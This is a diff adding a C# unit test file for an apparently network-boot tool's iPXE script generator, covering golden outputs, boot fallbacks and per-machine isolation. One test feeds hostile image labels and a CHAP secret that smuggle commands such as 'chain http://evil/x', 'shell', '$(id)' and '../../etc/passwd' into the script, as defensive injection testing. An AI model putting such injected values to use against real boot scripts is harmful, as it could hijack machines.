@@ -1,0 +1,119 @@
+using GGnet.Core.Boot;
+using GGnet.Core.Domain;
+using GGnet.Tests.Support;
+
+namespace GGnet.Tests.Core.Boot;
+
+public sealed class IpxeScriptsTests
+{
+    private const string Folder = "Core/Boot";
+
+    [Fact]
+    public void Generic_MatchesGolden() =>
+        Golden.Matches(Folder, "boot.ipxe", IpxeScripts.Generic(BootSamples.Network()));
+
+    [Fact]
+    public void Generic_ChainsHttpThenTftpWithGrowingPauses_ThenExitsToLocalDisk()
+    {
+        var script = IpxeScripts.Generic(BootSamples.Network());
+
+        Assert.StartsWith("#!ipxe\n", script, StringComparison.Ordinal);
+        Assert.Contains("set ggnet-http http://10.99.0.1:5000/boot/${mac:hexhyp}.ipxe?platform=${platform:uristring}&arch=${buildarch:uristring}", script, StringComparison.Ordinal);
+        Assert.Contains("set ggnet-tftp tftp://10.99.0.1/machines/${mac:hexhyp}.ipxe", script, StringComparison.Ordinal);
+        Assert.Equal(["sleep 2", "sleep 4", "sleep 8", "sleep 16", "sleep 5"], Lines(script).Where(l => l.StartsWith("sleep", StringComparison.Ordinal)));
+        Assert.Equal("exit 1", Lines(script)[^1]);
+    }
+
+    [Fact]
+    public void Session_MatchesGolden() =>
+        Golden.Matches(Folder, "session.ipxe", IpxeScripts.ForPc(new(MacAddress.Parse("52:54:00:00:00:01"), BootSamples.Machine(1, "pc-01", "52:54:00:00:00:01"), NoSessionAction.Wait, BootSamples.Target(42)), BootSamples.Network()));
+
+    [Fact]
+    public void SessionWithChap_MatchesGolden() =>
+        Golden.Matches(Folder, "session-chap.ipxe", IpxeScripts.ForPc(
+            new(MacAddress.Parse("52:54:00:00:00:01"), BootSamples.Machine(1, "pc-01", "52:54:00:00:00:01"), NoSessionAction.Wait, BootSamples.Target(42, chap: new ChapCredentials("pc-01", "s3cretS3cret"))),
+            BootSamples.Network()));
+
+    [Fact]
+    public void NoSession_Wait_MatchesGolden() =>
+        Golden.Matches(Folder, "waiting.ipxe", IpxeScripts.ForPc(new(MacAddress.Parse("52:54:00:00:00:01"), BootSamples.Machine(1, "pc-01", "52:54:00:00:00:01"), NoSessionAction.Wait, null), BootSamples.Network()));
+
+    [Fact]
+    public void NoSession_LocalDisk_MatchesGolden() =>
+        Golden.Matches(Folder, "local-disk.ipxe", IpxeScripts.ForPc(new(MacAddress.Parse("52:54:00:00:00:01"), BootSamples.Machine(1, "pc-01", "52:54:00:00:00:01", noSession: NoSessionAction.LocalDisk), NoSessionAction.LocalDisk, null), BootSamples.Network()));
+
+    [Fact]
+    public void Unknown_MatchesGolden() =>
+        Golden.Matches(Folder, "unknown.ipxe", IpxeScripts.ForPc(new(MacAddress.Parse("52:54:00:aa:bb:cc"), null, NoSessionAction.Wait, null), BootSamples.Network()));
+
+    [Fact]
+    public void Disabled_ExitsToLocalDiskEvenWithASession()
+    {
+        var script = IpxeScripts.ForPc(new(MacAddress.Parse("52:54:00:00:00:01"), BootSamples.Machine(1, "pc-01", "52:54:00:00:00:01", enabled: false), NoSessionAction.Wait, BootSamples.Target(42)), BootSamples.Network());
+
+        Assert.DoesNotContain("sanboot", script, StringComparison.Ordinal);
+        Assert.Contains("is disabled in GGnet", script, StringComparison.Ordinal);
+    }
+
+    [Theory]
+    [InlineData("win\"11\nchain http://evil/x")]
+    [InlineData("${root-path} || shell")]
+    [InlineData("img; reboot && :attach")]
+    [InlineData("{}{}$(id)`id`")]
+    [InlineData("\0\r\n#!ipxe\nshell")]
+    [InlineData("ⅰmage ｗin11 ../../etc/passwd")]
+    public void Session_HostileImageLabel_NeverChangesTheScriptsStructure(string label)
+    {
+        var benign = SessionScript("win11 v3");
+
+        var hostile = SessionScript(label);
+
+        Assert.Equal(Lines(benign).Length, Lines(hostile).Length);
+        Assert.Equal(Lines(benign).Select(FirstWord), Lines(hostile).Select(FirstWord));
+        Assert.DoesNotContain("${root-path}", hostile, StringComparison.Ordinal);
+        Assert.DoesNotContain(Lines(hostile).Where(l => !l.StartsWith("echo", StringComparison.Ordinal)),
+            l => l.Contains("evil", StringComparison.Ordinal) || l.Contains("shell", StringComparison.Ordinal) || l.Contains("reboot", StringComparison.Ordinal));
+    }
+
+    [Fact]
+    public void Session_UnsafeChapSecret_IsRefused()
+    {
+        Assert.Throws<ArgumentException>(() => IpxeScripts.ForPc(
+            new(MacAddress.Parse("52:54:00:00:00:01"), BootSamples.Machine(1, "pc-01", "52:54:00:00:00:01"), NoSessionAction.Wait, BootSamples.Target(42, chap: new ChapCredentials("u", "a b\nshell"))),
+            BootSamples.Network()));
+    }
+
+    [Fact]
+    public void ScriptForOnePc_HoldsNoOtherPcsData()
+    {
+        var network = BootSamples.Network();
+        var other = BootSamples.Machine(2, "secret-pc", "52:54:00:00:00:02");
+
+        var script = IpxeScripts.ForPc(new(MacAddress.Parse("52:54:00:00:00:01"), BootSamples.Machine(1, "pc-01", "52:54:00:00:00:01"), NoSessionAction.Wait, BootSamples.Target(42)), network);
+
+        Assert.DoesNotContain(other.Name.Value, script, StringComparison.Ordinal);
+        Assert.DoesNotContain(other.MacAddress.Value, script, StringComparison.Ordinal);
+    }
+
+    [Theory]
+    [InlineData("a\"b", "a?b")]
+    [InlineData("${x}", "??x?")]
+    [InlineData("win11 v3 (2026-11)", "win11 v3 (2026-11)")]
+    public void IpxeTextSafe_KeepsPlainTextAndMasksTheRest(string text, string expected)
+    {
+        Assert.Equal(expected, IpxeText.Safe(text));
+    }
+
+    [Fact]
+    public void IpxeTextSafe_BoundsLength()
+    {
+        Assert.Equal(IpxeText.MaxLength, IpxeText.Safe(new string('a', 10_000)).Length);
+    }
+
+    private static string SessionScript(string label) =>
+        IpxeScripts.ForPc(new(MacAddress.Parse("52:54:00:00:00:01"), BootSamples.Machine(1, "pc-01", "52:54:00:00:00:01"), NoSessionAction.Wait, BootSamples.Target(42, label)), BootSamples.Network());
+
+    private static string[] Lines(string script) => script.Split('\n', StringSplitOptions.RemoveEmptyEntries);
+
+    private static string FirstWord(string line) => line.Split(' ')[0];
+}
